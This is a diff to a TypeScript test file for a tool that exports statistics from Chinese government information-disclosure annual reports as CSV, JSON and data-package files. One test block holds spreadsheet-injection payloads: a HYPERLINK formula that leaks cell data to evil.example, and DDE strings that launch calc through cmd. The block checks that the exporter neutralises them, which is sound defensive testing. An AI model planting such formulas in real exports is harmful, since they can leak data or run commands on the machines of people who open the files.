+    expect(bundle.perReport.map((p) => p.report.id)).toEqual(IDS);
+    expect(bundle.perIndicator).toHaveLength(312);
   });
 });
 
 describe("reports.json and the JSON Schema", () => {
-  const bundle = buildDownloads([...fixtures].reverse(), BUILD);
-
   it("holds every validated report sorted by id under meta with the build date", () => {
-    const all = JSON.parse(file(bundle, "reports.json"));
-    expect(all.meta).toMatchObject({ buildDate: "2024-06-30T12:00:00Z", reportCount: 5, schemaVersion: "1.0.0", license: "CC-BY-4.0" });
-    expect(all.reports.map((r: Report) => r.id)).toEqual([...byId.keys()].sort());
-    for (const r of all.reports) expect(parseReport(r, r.id)).toEqual(byId.get(r.id));
+    const all = JSON.parse(file(buildDownloads([...reports].reverse(), BUILD), "reports.json"));
+    expect(all.meta).toMatchObject({ buildDate: "2024-06-30T12:00:00Z", reportCount: 6, schemaVersion: "2.0.0", license: "CC-BY-4.0" });
+    expect(all.reports.map((r: Report) => r.id)).toEqual(IDS);
   });
 
   it("publishes the report JSON Schema", () => {
     const schema = JSON.parse(file(bundle, "report.schema.json"));
     expect(schema.$schema).toBe("https://json-schema.org/draft/2020-12/schema");
-    expect(schema.properties.statistics.type).toBe("array");
-    expect(schema.required).toContain("jurisdiction");
+    expect(schema.properties.derived.type).toBe("array");
   });
 });
 
 describe("datapackage.json", () => {
-  const bundle = buildDownloads(fixtures, BUILD);
   const pkg = JSON.parse(file(bundle, "datapackage.json"));
+  const csvPaths = ["reports.csv", "reports-long.csv", "reports-concepts.csv", ...TEMPLATES.map((t) => `reports-wide-${t.id}.csv`), "reports-wide.csv", "codebook.csv"];
 
-  it("describes each CSV with schema fields exactly matching its header", () => {
-    for (const path of ["reports-long.csv", "reports-wide.csv", "codebook.csv"]) {
+  it("describes each CSV with schema fields exactly matching its header, and the size and hash of every file", () => {
+    expect(pkg.resources.map((r: { path: string }) => r.path)).toEqual([...csvPaths.slice(0, -1), "reports.json", "codebook.csv"]);
+    for (const path of csvPaths) {
       const resource = pkg.resources.find((r: { path: string }) => r.path === path);
       expect(resource.profile).toBe("tabular-data-resource");
-      expect(resource.schema.fields.map((f: { name: string }) => f.name)).toEqual(table(file(bundle, path)).header);
-      expect(resource.schema.missingValues).toEqual([""]);
+      expect(resource.schema.fields.map((f: { name: string }) => f.name), path).toEqual(table(file(bundle, path)).header);
       expect(resource.dialect).toMatchObject({ delimiter: ",", lineTerminator: "\r\n", header: true });
     }
-  });
-
-  it("gives the size and hash of every file it lists", () => {
-    expect(pkg.resources.map((r: { path: string }) => r.path)).toEqual(["reports-long.csv", "reports-wide.csv", "reports.json", "codebook.csv"]);
     for (const resource of pkg.resources) {
       const body = Buffer.from(file(bundle, resource.path), "utf8");
       expect(resource.bytes).toBe(body.length);
@@ -410,86 +476,179 @@ describe("datapackage.json", () => {
     }
   });
 
+  it("describes the package, every resource and every field in Chinese first, then English", () => {
+    const bilingual = /^[^/]*\p{Script=Han}[\s\S]* \/ [\s\S]*[A-Za-z]{3}/u;
+    expect(pkg.title).toBe("政府信息公开工作年度报告统计数据 / Statistics from Chinese government information disclosure annual reports");
+    expect(pkg.description).toMatch(/^6 份政府信息公开工作年度报告/);
+    for (const resource of pkg.resources) {
+      expect(resource.title, resource.path).toMatch(/\p{Script=Han}.* \/ [A-Z]/u);
+      expect(resource.description, resource.path).toMatch(bilingual);
+      for (const field of resource.schema?.fields ?? []) expect(field.description, `${resource.path} ${field.name}`).toMatch(/\p{Script=Han}[\s\S]* \/ /u);
+    }
+    const status = pkg.resources[1].schema.fields.find((f: { name: string }) => f.name === "value_status");
+    expect(status.title).toBe("数值状态 / Value status");
+    expect(status.description).toContain("reported = 已报告：报告给出了数字；not_reported = 未报告");
+    expect(status.description).toContain(" / reported = the report gives a number; not_reported = ");
+    expect(status.constraints.enum).toEqual(["reported", "not_reported", "uncertain", "not_in_report"]);
+  });
+
+  it("types the fields and keys the tables on report_id", () => {
+    const fields = Object.fromEntries(pkg.resources[1].schema.fields.map((f: { name: string }) => [f.name, f]));
+    expect(fields.division_code).toMatchObject({ type: "string", constraints: { pattern: "\\d{6}" } });
+    expect(fields.jurisdiction_id).toMatchObject({ type: "string", constraints: { required: true, pattern: JURISDICTION_ID_PATTERN } });
+    expect(fields.year.type).toBe("integer");
+    expect(fields.value.type).toBe("number");
+    expect(fields.source_column.type).toBe("integer");
+    expect(fields.is_primary).toMatchObject({ type: "boolean", trueValues: ["true"], falseValues: ["false"] });
+    expect(fields.origin.constraints.enum).toEqual(["table", "text", "derived"]);
+    expect(pkg.resources[0].schema.primaryKey).toEqual(["report_id"]);
+    expect(pkg.resources[2].schema.primaryKey).toEqual(["report_id", "concept_id"]);
+    expect(pkg.resources[1].schema.foreignKeys).toEqual([{ fields: ["report_id"], reference: { resource: "report-list", fields: ["report_id"] } }]);
+  });
+
   it("carries license, created date, sources, contributors and keywords", () => {
-    expect(pkg.profile).toBe("data-package");
     expect(pkg.created).toBe("2024-06-30T12:00:00Z");
     expect(pkg.licenses).toEqual([{ name: "CC-BY-4.0", title: "Creative Commons Attribution 4.0 International", path: "https://creativecommons.org/licenses/by/4.0/" }]);
     expect(pkg.sources).toContainEqual({ title: "石嘴山市大武口区2017年政府信息公开工作年度报告", path: "http://www.dwk.gov.cn/" });
+    expect(pkg.sources).toContainEqual({ title: "平罗县2016年政府信息公开工作年度报告", path: "http://www.nxpl.gov.cn" });
+    // A website printed without a scheme is no source path.
+    const bare = altered(dawukou, (r) => {
+      r.website = "WWW.dwk.gov.cn";
+    });
+    expect(JSON.parse(file(buildDownloads([bare], BUILD), "datapackage.json")).sources).toContainEqual({ title: dawukou.title });
     expect(pkg.contributors).toContainEqual({ title: "大武口区人民政府办公室", role: "contributor" });
-    expect(pkg.keywords).toContain("政府信息公开");
-  });
-
-  it("types the fields: codes as text, year as integer, values as number, is_primary as boolean", () => {
-    const fields = Object.fromEntries(pkg.resources[0].schema.fields.map((f: { name: string }) => [f.name, f]));
-    expect(fields.division_code).toMatchObject({ type: "string", constraints: { required: true, pattern: "\\d{6}" } });
-    expect(fields.year.type).toBe("integer");
-    expect(fields.value.type).toBe("number");
-    expect(fields.is_primary).toMatchObject({ type: "boolean", trueValues: ["true"], falseValues: ["false"] });
-    expect(fields.value_status.constraints.enum).toEqual(["reported", "not_reported", "not_in_report"]);
   });
 });
 
 describe("codebook", () => {
-  const bundle = buildDownloads(fixtures, BUILD);
-  const { rows } = table(file(bundle, "codebook.csv"));
+  const { header, rows } = table(file(bundle, "codebook.csv"));
 
-  it("lists every column of both CSVs and every indicator once", () => {
-    expect(rows.filter((r) => r.file === "reports-long.csv").map((r) => r.name)).toEqual(longColumns().map((c) => c.name));
-    expect(rows.filter((r) => r.file === "reports-wide.csv" && r.kind === "column").map((r) => r.name)).toEqual(
-      wideMetadataColumns().map((c) => c.name),
-    );
-    expect(rows.filter((r) => r.kind === "indicator").map((r) => r.name)).toEqual(allIndicators().map((e) => e.indicator.id));
+  it("lists every column of every CSV, every id of every format and every concept, once per file", () => {
+    expect(header).toEqual(codebookColumns().map((c) => c.name));
     expect(rows).toHaveLength(codebookRows().length);
+    expect(new Set(rows.map((r) => `${r.file} ${r.name}`)).size).toBe(rows.length);
+    expect(rows.filter((r) => r.file === "reports-long.csv").map((r) => r.name)).toEqual(longColumns().map((c) => c.name));
+    for (const template of TEMPLATES) {
+      const own = rows.filter((r) => r.file === `reports-wide-${template.id}.csv`);
+      expect(own.map((r) => r.name)).toEqual(wideColumns(template).map((c) => c.name));
+      expect(own.filter((r) => r.kind === "derived").map((r) => r.name)).toEqual(template.derived.map((d) => d.id));
+    }
+    expect(rows.filter((r) => r.kind === "concept").map((r) => r.name)).toEqual(CONCEPTS.map((c) => c.id));
   });
 
-  it("defines an indicator by its official row, unit, parent and rules", () => {
-    expect(row(rows, { name: "requests_online" })).toMatchObject({
+  it("names and describes every entry in Chinese and in English", () => {
+    for (const r of rows) {
+      expect(r.title, `${r.file} ${r.name}`).toMatch(/\p{Script=Han}/u);
+      expect(r.description, `${r.file} ${r.name}`).toMatch(/\p{Script=Han}/u);
+      expect(r.title_en, `${r.file} ${r.name}`).toMatch(/[A-Za-z]/);
+      expect(r.description_en, `${r.file} ${r.name}`).toMatch(/[A-Za-z]{3}/);
+    }
+  });
+
+  it("defines an indicator by its official row, unit, parent and rules, and a derived one by its sum", () => {
+    expect(row(rows, { file: "reports-wide-national-2008.csv", name: "requests_online" })).toMatchObject({
+      kind: "indicator",
       title: "网络申请数",
-      name_en: "Requests made online",
+      title_en: "Requests made online",
       unit: "件",
       parent: "requests_received",
+      table: "statistics",
       section: "三、依申请公开情况",
       template: "national-2008",
       description: "统计表行名：3. 网络申请数。单位：件。上级指标：收到申请数（requests_received）。勾稽关系：收到申请数 = 当面 + 传真 + 网络 + 信函。",
+      description_en: "Printed as: 3. 网络申请数; unit: 件; breakdown of requests_received; consistency rules: requests_received_sum.",
+    });
+    const legal = row(rows, { file: "reports-wide-national-2021.csv", name: "requests_received__legal_persons" });
+    expect(legal).toMatchObject({ kind: "derived", title: "本年新收申请 · 法人或其他组织", template: "national-2021", table: "requests" });
+    expect(legal.description).toMatch(/^推算指标：本年新收申请 · 商业企业（requests_received__commercial） \+ /);
+    expect(legal.description_en).toMatch(/^Derived: requests_received__commercial \+ requests_received__research \+ /);
+  });
+
+  it("explains the coded values in both languages", () => {
+    const status = row(rows, { file: "reports-long.csv", name: "value_status" });
+    for (const v of VALUE_STATUSES) {
+      expect(status.description).toContain(`${v.code} = ${v.label}：${v.description}`);
+      expect(status.description_en).toContain(`${v.code} = ${v.descriptionEn}`);
+    }
+    expect(row(rows, { file: "reports-concepts.csv", name: "value_status" }).description).toContain("not_in_template = 格式无此项");
+    expect(codeWithLabel(CONCEPT_STATUSES, "not_in_report")).toBe("not_in_report（报告未载）");
+  });
+});
+
+describe("spreadsheet formulas in report text", () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
+  const hostile = altered(dawukou, (r) => {
+    r.title = `${HYPERLINK}2017年政府信息公开工作年度报告`;
+    r.jurisdiction.name = "+cmd|' /C calc'!A0";
+    r.publisher = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const fax = r.statistics.find((s) => s.indicator === "requests_fax")!;
+    Object.assign(fax, { value: -3, raw: "-3", label: "\t=1+1", note: "\r=2+2" });
+  });
+  const out = buildDownloads([hostile], BUILD);
+  const numberColumns = new Set(["value", "year", "source_line", "source_column", "source_page", "checks_failed", "checks_uncertain", "figures_printed", ...templateFigures(getTemplate("national-2008")).map((f) => f.id)]);
+
+  it("leaves no cell of any CSV starting with = + - @ tab or CR unless it is a number", () => {
+    for (const path of ["reports.csv", "reports-long.csv", "reports-concepts.csv", "reports-wide-national-2008.csv", "reports-wide.csv", `reports/${hostile.id}.csv`, "indicators/requests_fax.csv"]) {
+      const [header, ...records] = parseCsv(file(out, path));
+      for (const record of records) {
+        record.forEach((value, i) => {
+          if (numberColumns.has(header![i]!) || /__/.test(header![i]!)) {
+            if (value !== "") expect(Number.isFinite(Number(value)), `${path} ${header![i]} ${value}`).toBe(true);
+          } else expect(value, `${path} ${header![i]}`).not.toMatch(FORMULA_START);
+        });
+      }
+    }
+  });
+
+  it("keeps the text readable behind the apostrophe and the negative figure a number", () => {
+    expect(row(table(file(out, "reports-long.csv")).rows, { indicator_id: "requests_fax" })).toMatchObject({
+      jurisdiction: "'+cmd|' /C calc'!A0",
+      value: "-3",
+      raw_text: "'-3",
+      source_label: "'\t=1+1",
+      note: "'\r=2+2",
+    });
+    expect(table(file(out, "reports-wide-national-2008.csv")).rows[0]).toMatchObject({
+      title: `'${HYPERLINK}2017年政府信息公开工作年度报告`,
+      publisher: "'@SUM(1+1)*cmd|' /C calc'!A0",
+      requests_fax: "-3",
     });
   });
 });
 
 describe("determinism and errors", () => {
   it("gives byte-identical files for the same reports in any order", () => {
-    const a = buildDownloads(fixtures, BUILD);
-    const b = buildDownloads([...fixtures].reverse(), BUILD);
-    expect([...b.byPath.keys()]).toEqual([...a.byPath.keys()]);
-    for (const [path, f] of a.byPath) expect(b.byPath.get(path)!.body(), path).toBe(f.body());
+    const b = buildDownloads([...reports].reverse(), BUILD);
+    expect([...b.byPath.keys()]).toEqual([...bundle.byPath.keys()]);
+    for (const [path, f] of bundle.byPath) expect(b.byPath.get(path)!.body(), path).toBe(f.body());
   });
 
   it("lets the build date change only datapackage.json and reports.json", () => {
-    const a = buildDownloads(fixtures, BUILD);
-    const b = buildDownloads(fixtures, buildDateFrom(new Date(Date.UTC(2030, 0, 1))));
-    const changed = [...a.byPath].filter(([path, f]) => b.byPath.get(path)!.body() !== f.body()).map(([path]) => path);
+    const b = buildDownloads(reports, buildDateFrom(new Date(Date.UTC(2030, 0, 1))));
+    const changed = [...bundle.byPath].filter(([path, f]) => b.byPath.get(path)!.body() !== f.body()).map(([path]) => path);
     expect(changed.sort()).toEqual(["datapackage.json", "reports.json"]);
   });
 
-  it("names the report when its template is unknown or a statistic names an unknown indicator", () => {
-    const unknownTemplate = altered(xingqing, (r) => {
-      r.template = "national-2019";
+  it("names the report when its template is unknown or a figure names an id its format lacks", () => {
+    const unknownTemplate = altered(dawukou, (r) => {
+      r.template = "national-2030";
     });
-    expect(() => buildDownloads([unknownTemplate], BUILD)).toThrow("report 640104-2018: unknown statistics template: national-2019");
-    const unknownIndicator = altered(xingqing, (r) => {
+    expect(() => buildDownloads([unknownTemplate], BUILD)).toThrow("report 640202-2017: unknown statistics template: national-2030");
+    const unknownIndicator = altered(dawukou, (r) => {
       r.statistics[0]!.indicator = "proactive_totl";
     });
     expect(() => buildDownloads([unknownIndicator], BUILD)).toThrow(
-      'report 640104-2018: statistic on line 463 names indicator "proactive_totl", which template national-2008 does not have',
+      `report 640202-2017: statistic on line ${dawukou.statistics[0]!.line} names indicator "proactive_totl", which template national-2008 does not have`,
     );
-    expect(() => buildDownloads([xingqing, xingqing], BUILD)).toThrow("two reports share the id 640104-2018");
+    expect(() => buildDownloads([dawukou, dawukou], BUILD)).toThrow("two reports share the id 640202-2017");
   });
 
   it("leaves prefecture empty for a province and for a county directly under its province", () => {
-    const province = altered(xingqing, (r) => {
-      r.jurisdiction = { ...r.jurisdiction, code: "640000", name: "宁夏回族自治区", level: "province", parent: null };
+    const province = altered(dawukou, (r) => {
+      r.jurisdiction = { ...r.jurisdiction, code: "640000", id: "640000", name: "宁夏回族自治区", level: "province", parent: null };
     });
     expect(prefectureName(province)).toBe("");
-    const direct = altered(xingqing, (r) => {
+    const direct = altered(dawukou, (r) => {
       r.jurisdiction = { ...r.jurisdiction, parent: { code: "640000", name: "宁夏回族自治区" } };
     });
     expect(prefectureName(direct)).toBe("");
@@ -497,23 +656,19 @@ describe("determinism and errors", () => {
 });
 
 describe("schema.org Dataset JSON-LD", () => {
-  const bundle = buildDownloads(fixtures, BUILD);
-  const ld = datasetJsonLd(bundle, "https://data.example.cn/", "说明");
-
-  it("lists every bulk file with an absolute contentUrl, format and size", () => {
+  it("lists every bulk file with an absolute contentUrl when the site's address is known", () => {
+    const ld = datasetJsonLd(bundle, "https://data.example.cn/", "说明");
+    expect(ld.url).toBe("https://data.example.cn/downloads/");
     expect(ld.distribution.map((d) => d.contentUrl)).toEqual(bundle.main.map((f) => `https://data.example.cn/downloads/${f.path}`));
-    expect(ld.distribution[0]).toMatchObject({ "@type": "DataDownload", encodingFormat: "text/csv" });
     expect(ld.distribution[0]!.contentSize).toBe(`${Buffer.byteLength(file(bundle, "reports-long.csv"), "utf8")} B`);
+    expect(ld).toMatchObject({ license: "https://creativecommons.org/licenses/by/4.0/", temporalCoverage: "2016/2023", dateModified: "2024-06-30" });
+    expect(ld.spatialCoverage).toEqual([{ "@type": "Place", name: "宁夏回族自治区" }, { "@type": "Place", name: "江苏省" }, { "@type": "Place", name: "福建省" }].sort((a, b) => (a.name < b.name ? -1 : 1)));
   });
 
-  it("states license, coverage and the build date", () => {
-    expect(ld).toMatchObject({
-      "@type": "Dataset",
-      license: "https://creativecommons.org/licenses/by/4.0/",
-      temporalCoverage: "2016/2018",
-      spatialCoverage: [{ "@type": "Place", name: "宁夏回族自治区" }],
-      dateModified: "2024-06-30",
-    });
+  it("writes paths on this site, never a guessed host, when it is not", () => {
+    const ld = datasetJsonLd(bundle, undefined, "说明");
+    expect(ld.url).toBe("/downloads/");
+    expect(ld.distribution.map((d) => d.contentUrl)).toEqual(bundle.main.map((f) => `/downloads/${f.path}`));
   });
 
   it("cannot close its script element", () => {
@@ -521,21 +676,14 @@ describe("schema.org Dataset JSON-LD", () => {
   });
 });
 
-describe("datapackage sources", () => {
-  it("gives a source path only for a full http(s) URL", () => {
-    const pkg = JSON.parse(file(buildDownloads(fixtures, BUILD), "datapackage.json"));
-    // 平罗县's report prints its website as WWW.nxpl.gov.cn, without a scheme.
-    expect(pkg.sources).toContainEqual({ title: "平罗县2016年政府信息公开工作年度报告" });
-    expect(pkg.sources).toContainEqual({ title: "中卫市2017年政府信息公开工作年度报告", path: "http://www.nxzw.gov.cn/" });
-  });
-});
-
 describe("Table Schema patterns", () => {
-  it("writes the report id pattern as an anchored XML Schema regex that agrees with the schema's", () => {
-    const xsd = new RegExp(`^(?:${REPORT_ID_PATTERN})$`);
-    for (const id of ["640202-2017", "640104-caizheng-ju-2018", "640202-2017x", "640202-17", "640202--2017", "64020-2017"]) {
-      expect(xsd.test(id), id).toBe(reportIdPattern.test(id));
+  it("write the report and jurisdiction id patterns as anchored XML Schema regexes that agree with the schema's", () => {
+    const reportXsd = new RegExp(`^(?:${REPORT_ID_PATTERN})$`);
+    for (const id of ["640202-2017", "x659039f5dea5-2020", "x659039f5dea5-local-taxation-2013", "321322-development-reform-2023", "640202-2017x", "640202-17", "640202--2017", "64020-2017", "x659039f5dea-2020"]) {
+      expect(reportXsd.test(id), id).toBe(reportIdPattern.test(id));
     }
-    expect(REPORT_ID_PATTERN).not.toMatch(/[\^$]|\(\?:/);
+    const jurisdictionXsd = new RegExp(`^(?:${JURISDICTION_ID_PATTERN})$`);
+    for (const id of ["640202", "x659039f5dea5", "x659039f5dea", "64020", "X659039F5DEA5"]) expect(jurisdictionXsd.test(id), id).toBe(jurisdictionIdPattern.test(id));
+    expect(REPORT_ID_PATTERN + JURISDICTION_ID_PATTERN).not.toMatch(/[\^$]|\(\?:/);
   });
 });
